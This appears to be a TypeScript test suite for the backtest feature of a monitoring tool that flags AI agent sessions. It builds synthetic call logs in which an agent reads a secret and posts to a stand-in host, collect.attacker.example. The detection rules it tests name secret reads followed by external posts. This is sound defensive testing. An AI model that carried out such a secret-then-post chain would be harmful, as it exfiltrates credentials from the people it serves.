/** A backtest over what is on record tells the alerts, with the ids, that the live run told. */
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, suite, test } from 'node:test';
import type { Service } from '../../../services/cli/service.ts';
import { eventually, openPlace, startIn, tripline, type Place, type Ran } from './harness.ts';

const RULE = 'chain.search-vault-post';
const NOTHING_SAID = { true_positive: 0, benign_true_positive: 0, false_positive: 0, undetermined: 0 };
const CHAIN = ['web_search', 'read_secret', 'http_post'];
const URL_OUTSIDE = 'https://collect.attacker.example/drop';

/** The last line is a summary. */
const alertsIn = (ran: Ran): readonly Readonly<Record<string, unknown>>[] => ran.items().slice(0, -1);

/** The chain in one session, complete or not, one call a second. */
function session(name: string, tools: readonly string[]): string[] {
  return tools.map((tool, second) =>
    JSON.stringify({
      v: 1,
      kind: 'call.intent',
      time: `2026-01-31T12:00:0${second}.000Z`,
      session: name,
      agent: 'bot',
      server: 'any',
      callId: String(second),
      tool,
      args: tool === 'http_post' ? { url: URL_OUTSIDE } : {},
    }),
  );
}

suite('backtest', () => {
  let place: Place;
  let service: Service;
  const json = (...argv: readonly string[]): Promise<Ran> => tripline(place.env, [...argv, '--json']);
  before(async () => {
    place = await openPlace();
    service = await startIn(place);
    const file = join(place.dir, 'events.ndjson');
    const lines = [
      ...Array.from({ length: 6 }, (_, index) => session(`hit-${index}`, CHAIN)),
      session('order', ['read_secret', 'http_post', 'web_search']),
      session('missing', ['web_search', 'http_post']),
    ].flat();
    writeFileSync(file, `${lines.join('\n')}\n`);
    assert.equal((await json('replay', file)).exitCode, 0);
  });
  after(async () => {
    await service.stop();
    await place.remove();
  });

  test('a shipped rule gives the ids of the live alerts, and says that they were told', async () => {
    const live = await eventually(
      () => json('alerts'),
      (ran) => ran.items().filter((item) => item['ruleId'] === 'chain.search-vault-post').length === 6,
    );
    const ids = live
      .items()
      .filter((item) => item['ruleId'] === 'chain.search-vault-post')
      .map((item) => item['id']);
    const ran = await eventually(
      () => json('backtest', 'chain.search-vault-post'),
      (tried) => alertsIn(tried).length === 6,
    );
    assert.equal(ran.exitCode, 0);
    assert.match(ran.err, /6 alerts \(6 of them told live\) over 23 events; [\d.]+ us an event, /);
    assert.deepEqual(new Set(alertsIn(ran).map((item) => item['id'])), new Set(ids));
    assert.deepEqual(new Set(alertsIn(ran).map((item) => item['told'])), new Set([true]));
    assert.deepEqual(ran.items().at(-1), {
      events: 23,
      alerts: 6,
      told: 6,
      interrupted: false,
      dispositions: { ...NOTHING_SAID, none: 6 },
      true: 0,
      false: 0,
      precision: null,
      lost: 0,
    });
  });

  test('a rule that never ran tells what it would have found', async () => {
    const rule = join(place.dir, 'rule.yaml');
    writeFileSync(
      rule,
      [
        'id: test.secret-then-post',
        'title: Secret read, then a post',
        'level: low',
        'key: session',
        'events:',
        '  secret: { tool.class: secret_read }',
        '  post: { tool.class: external_post }',
        'sequence: [secret, post]',
        'within: 10m',
        '',
      ].join('\n'),
    );
    const ran = await json('backtest', rule);
    assert.equal(ran.exitCode, 0, ran.err);
    const sessions = alertsIn(ran).map((item) => (item['calls'] as { session: string }[])[0]?.session);
    assert.deepEqual(
      new Set(sessions),
      new Set(['hit-0', 'hit-1', 'hit-2', 'hit-3', 'hit-4', 'hit-5', 'order']),
    );
    assert.equal(sessions.length, 7);
    assert.deepEqual(new Set(alertsIn(ran).map((item) => item['told'])), new Set([false]));
  });

  /** Of session hit-5 nobody says anything. */
  const SAID: readonly (readonly [session: string, disposition: string])[] = [
    ['hit-0', 'false_positive'],
    ['hit-0', 'true_positive'],
    ['hit-1', 'true_positive'],
    ['hit-2', 'benign_true_positive'],
    ['hit-3', 'false_positive'],
    ['hit-4', 'undetermined'],
  ];

  test('dispositions give the precision of a version: 3 true to 1 false', async () => {
    const live = (await json('alerts')).items();
    const idOf = (name: string): string =>
      String(live.find((item) => item['ruleId'] === RULE && item['session'] === name)?.['id']);
    for (const [name, disposition] of SAID) {
      const said = await json('disposition', idOf(name), '--as', disposition, '--reason', 'looked into it');
      assert.deepEqual([said.exitCode, said.items()[0]?.['id']], [0, idOf(name)], said.err);
    }
    const shown = await eventually(
      () => json('alerts', '--disposition', 'none'),
      (ran) => ran.items().filter((item) => item['ruleId'] === RULE).length === 1,
    );
    assert.ok(shown.items().some((item) => item['session'] === 'hit-5'));
    const { dispositions, precision, lost, ...counts } = (await json('backtest', RULE)).items().at(-1) ?? {};
    const all = { true_positive: 2, benign_true_positive: 1, false_positive: 1, undetermined: 1, none: 1 };
    assert.deepEqual([dispositions, precision, lost], [all, 0.75, 0]);
    assert.deepEqual([counts['true'], counts['false']], [3, 1]);
    const text = await tripline(place.env, ['backtest', RULE]);
    assert.match(text.out, /\nprecision 0\.75: 3 true \(1 of them benign\), 1 false; .*\n$/);
    assert.match((await tripline(place.env, ['alerts'])).out, /hit-2 +benign_true_positive +[0-9a-f]{64} /);
  });

  /** Sessions hit-0 and hit-3 are left out: it has other alert ids than the version that told them. */
  const NARROWER = [
    `id: ${RULE}`,
    'title: A narrower version',
    'level: high',
    'key: session',
    'events:',
    '  search: { tool.class: search }',
    '  secret: { tool.class: secret_read }',
    '  post: { tool.class: external_post, session: [hit-1, hit-2, hit-4, hit-5] }',
    'sequence: [search, secret, post]',
    'within: 10m',
    '',
  ];

  test('a narrower version of the rule is held to the same dispositions, and says what it would lose', async () => {
    const file = join(place.dir, 'narrower.yaml');
    writeFileSync(file, NARROWER.join('\n'));
    const ran = await json('backtest', file);
    assert.equal(ran.exitCode, 0, ran.err);
    assert.equal(alertsIn(ran).length, 4);
    const { told, dispositions, precision, lost } = ran.items().at(-1) ?? {};
    const said = { true_positive: 1, benign_true_positive: 1, false_positive: 0, undetermined: 1, none: 1 };
    assert.deepEqual([told, dispositions, precision, lost], [0, said, 1, 1]);
    // What the run was not given, the rule has not lost.
    const later = new Date(Date.now() + 60_000).toISOString();
    const nothing = (await json('backtest', file, '--since', later)).items().at(-1);
    assert.deepEqual([nothing?.['alerts'], nothing?.['precision'], nothing?.['lost']], [0, null, 0]);
  });

  test('an interrupted run prints what it found so far and ends with 1', async () => {
    const abort = new AbortController();
    const reading = globalThis.fetch;
    // The interruption comes once the events have begun to arrive.
    globalThis.fetch = async (input, init) => {
      const response = await reading(input, init);
      if (typeof input !== 'string' || !input.includes('/v1/ledger/calls')) return response;
      const [first, second] = (response.body as ReadableStream<Uint8Array>).tee();
      const reader = first.getReader();
      void reader.read().then(() => abort.abort());
      return new Response(second);
    };
    try {
      const ran = await tripline(place.env, ['backtest', 'chain.search-vault-post', '--json'], abort.signal);
      assert.equal(ran.exitCode, 1);
      assert.match(ran.err, /interrupted: \d+ alerts .* over \d+ events; [\d.]+ us an event/);
      assert.ok(alertsIn(ran).every((item) => item['ruleId'] === 'chain.search-vault-post'));
      assert.equal(ran.items().at(-1)?.['interrupted'], true);
    } finally {
      globalThis.fetch = reading;
    }
  });

  test('rules explain reads a session on record: why it fired, or what it waits for', async () => {
    const explain = (id: string): Promise<Ran> =>
      json('rules', 'explain', 'chain.search-vault-post', '--session', id);
    const fired = await eventually(
      () => explain('hit-0'),
      (tried) => tried.exitCode === 0,
    );
    const hits = fired.items()[0]?.['keys'] as { matches: { calls: { step: string }[]; told: boolean }[] }[];
    assert.deepEqual(
      hits[0]?.matches.map(({ calls, told }) => [calls.map(({ step }) => step), told]),
      [[['search', 'secret', 'post'], true]],
    );
    const text = await tripline(place.env, [
      'rules',
      'explain',
      'chain.search-vault-post',
      '--session',
      'missing',
    ]);
    assert.match(
      text.out,
      /OPEN after 1 by append time\n    search .*web_search.*\n    waits for secret until /,
    );
    assert.equal((await explain('nobody')).exitCode, 1);
    assert.equal((await json('rules', 'explain', 'chain.search-vault-post')).exitCode, 2);
  });

  test('a rule that is neither shipped nor a file is a fault of usage', async () => {
    assert.equal((await json('backtest', 'no.such-rule')).exitCode, 2);
  });
});
